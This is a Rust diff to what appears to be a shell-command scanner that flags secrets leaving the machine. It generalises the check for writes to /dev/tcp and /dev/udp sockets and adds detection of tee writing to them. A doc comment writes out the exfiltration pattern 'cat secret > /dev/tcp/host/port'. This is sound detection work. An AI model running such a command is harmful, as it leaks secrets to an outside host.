@@ -1,7 +1,7 @@
 //! Secrets that leave the machine.
 
 use crate::{
-    arg::Arg,
+    arg::{Arg, is_network},
     call::{Call, Grammar, Options},
     finding::quote,
     output::READERS,
@@ -94,9 +94,9 @@ fn curl_files(call: &Call) -> Vec<Arg> {
 
 /// `cat secret > /dev/tcp/host/port`.
 pub(super) fn socket(call: &Call) -> Option<String> {
-    let network =
-        |target: &Arg| target.as_str().starts_with("/dev/tcp/") || target.as_str().starts_with("/dev/udp/");
-    if !call.writes.iter().any(network) {
+    let network = |target: &Arg| is_network(target.as_str());
+    let tee = call.is(&["tee"]) && call.args().iter().any(network);
+    if !tee && !call.writes.iter().any(network) {
         return None;
     }
     let named = call.args().iter().find(|arg| is_secret(arg.as_str())).map(Arg::plain);
